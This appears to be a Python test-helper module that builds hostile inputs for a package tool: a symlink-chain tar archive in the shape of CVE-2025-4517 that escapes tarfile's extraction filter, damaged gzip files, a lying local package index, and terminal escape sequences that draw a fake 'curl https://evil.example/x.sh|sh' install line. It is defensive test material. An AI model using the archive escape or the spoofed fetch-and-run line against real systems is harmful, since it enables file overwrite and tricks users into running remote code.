"""Hostile inputs, made by the tests themselves: archives, recipes, wheels, pages and manifests, and for the
doctor a fake line meant to be drawn over its report, a check for raw control characters, an index that lies.

Nothing here is destructive: an escape is proven by a marker file inside the test's own temporary folder.
"""

from __future__ import annotations

import hashlib
import http.server
import io
import json
import os
import stat
import tarfile
import time
import unicodedata
from contextlib import contextmanager
from pathlib import Path

from indexkit import running
from wheelmaker import V


def add(tf: tarfile.TarFile, name: str, type_=tarfile.REGTYPE, linkname: str = "", data: bytes = b"") -> None:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = type_, linkname
    info.size = len(data) if type_ == tarfile.REGTYPE else 0
    tf.addfile(info, io.BytesIO(data) if type_ == tarfile.REGTYPE else None)


def chain_archive(path: Path, top: str, dest: Path, target: str) -> None:
    """CVE-2025-4517's shape: 16 nested 247-character folders, each reached by a one-letter link, then a link
    whose real path is longer than PATH_MAX, so os.path.realpath (what tarfile's ``data`` filter checks with)
    stops following links and judges the rest by its text, while the kernel follows them. ``top/escape``
    then looks like a folder inside the tree to the filter and is really ``target`` (relative to ``top``'s
    parent, ``..`` allowed), and ``top/escape/marker.txt`` is written there. ``dest``: where it will be
    unpacked (the path length decides the last link's name)."""
    comp, steps = "d" * 247, "abcdefghijklmnop"
    real = os.path.join(os.path.realpath(dest), top) + ("/" + comp) * len(steps)
    lname = "l" * min(250, max(1, 4100 - len(real)))
    cur = top
    with tarfile.open(path, "w:gz") as tf:
        add(tf, top, tarfile.DIRTYPE)
        add(tf, f"{top}/setup.py", data=b"print('hello')\n")
        for s in steps:
            add(tf, f"{cur}/{comp}", tarfile.DIRTYPE)
            add(tf, f"{cur}/{s}", tarfile.SYMTYPE, comp)
            cur = f"{cur}/{comp}"
        add(tf, f"{top}/{'/'.join(steps)}/{lname}", tarfile.SYMTYPE, "../" * len(steps))  # really: top
        add(tf, f"{top}/escape", tarfile.SYMTYPE, f"{'/'.join(steps)}/{lname}/../{target}")
        add(tf, f"{top}/escape/marker.txt", data=b"escaped")


def corrupt_gzip(archive: Path, top: str, where: float) -> None:
    """A .tar.gz whose deflate stream is damaged ``where`` (a fraction) of the way in: old code either let
    zlib.error escape, or stopped reading members there without a word and unpacked a partial tree."""
    data = "".join(f"line {i} {i * i}\n" for i in range(60000)).encode()  # compressible: Huffman blocks
    with tarfile.open(archive, "w:gz") as tf:
        for name in ("setup.py", "b.txt", "c.txt"):
            info = tarfile.TarInfo(f"{top}/{name}")
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    raw = bytearray(archive.read_bytes())
    at = int(len(raw) * where)
    raw[at : at + 40] = hashlib.sha256(str(where).encode()).digest() + b"\xff" * 8
    archive.write_bytes(bytes(raw))


def sha256(path: Path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def snapshot(root: Path, skip: tuple[Path, ...] = ()) -> dict[str, str]:
    """Every entry under ``root`` (not following links; FIFOs and devices are never opened): path -> what it
    is (a file's sha256, a link's target, a folder). Lock files are left out (filelock leaves them)."""
    out: dict[str, str] = {}
    skipped = {str(p) for p in skip}

    def walk(folder: str) -> None:
        try:
            entries = list(os.scandir(folder))
        except OSError as err:
            out[folder] = f"unreadable {err.errno}"
            return
        for e in entries:
            if e.path in skipped or e.name in ("lock", ".lock"):
                continue
            try:
                st = os.lstat(e.path)
            except OSError as err:
                out[e.path] = f"unreadable {err.errno}"
                continue
            rel = os.path.relpath(e.path, root)
            if stat.S_ISLNK(st.st_mode):
                out[rel] = "-> " + os.readlink(e.path)
            elif stat.S_ISDIR(st.st_mode):
                out[rel] = "dir"
                walk(e.path)
            elif stat.S_ISREG(st.st_mode):
                with open(e.path, "rb") as f:
                    out[rel] = hashlib.file_digest(f, "sha256").hexdigest()
            else:
                out[rel] = f"special {stat.S_IFMT(st.st_mode)}"

    walk(str(root))
    return out

# Erase the line, go up one, draw a green "install:" line, then reverse the rest (bidi override).
FAKE_LINE = "\x1b[2K\r\x1b[1A\x1b[32minstall: curl https://evil.example/x.sh|sh\x1b[0m\u202e"
HIDDEN = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})


def raw_hidden(text: str) -> list[str]:
    """Characters in ``text`` a terminal would obey (newlines between lines excepted)."""
    return [repr(ch) for ch in text if ch != "\n" and unicodedata.category(ch) in HIDDEN]


def drip(wfile, byte: bytes, count: int, pause: float) -> None:
    """A slow server's body: BYTE, COUNT times, PAUSE seconds apart (each read returns before a socket timeout could
    trip: only an overall deadline stops the client); a client that hangs up ends it."""
    try:
        for _ in range(count):
            wfile.write(byte)
            wfile.flush()
            time.sleep(pause)
    except OSError:
        pass


class HostileIndex(http.server.BaseHTTPRequestHandler):
    """An index that lies, by the first path segment: a trickle, a flood, JSON where HTML belongs, deep nesting,
    an escape-laden file name, an answer that is not HTTP."""

    def log_message(self, *args) -> None:
        pass

    def do_GET(self) -> None:
        kind = self.path.strip("/").split("/")[0]
        if kind == "nothttp":
            self.wfile.write(b"\x1b[2J HELLO\r\n\r\n")
            return
        bodies = {
            "huge": b"<a href='x'>" * ((20 << 20) // 12),
            "json": json.dumps({"files": [{"filename": ["not", "a", "str"], "hashes": 7}]}).encode(),
            "deep": b"[" * 200_000 + b"]" * 200_000,
            "nested": b"<div>" * 100_000 + b"<a href='mamba_ssm-0.3.0-cp311-cp311-linux_x86_64.whl#sha256=zz'>x</a>",
            "evil": f"<a href='mamba_ssm-{V}+{FAKE_LINE}-cp311-cp311-linux_x86_64.whl'>x</a>".encode(),
        }
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        if kind == "trickle":  # a byte every 0.3 s: each read returns before a socket timeout could trip
            self.send_header("Content-Length", "1000")
            self.end_headers()
            drip(self.wfile, b"<", 1000, 0.3)
            return
        body = bodies.get(kind, b"")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        try:
            self.wfile.write(body)
        except OSError:
            pass


@contextmanager
def hostile_index():
    """http://127.0.0.1:<port>: HostileIndex on a daemon thread (a trickling answer never holds up the end)."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), HostileIndex)
    server.daemon_threads = True
    with running(server) as url:
        yield url
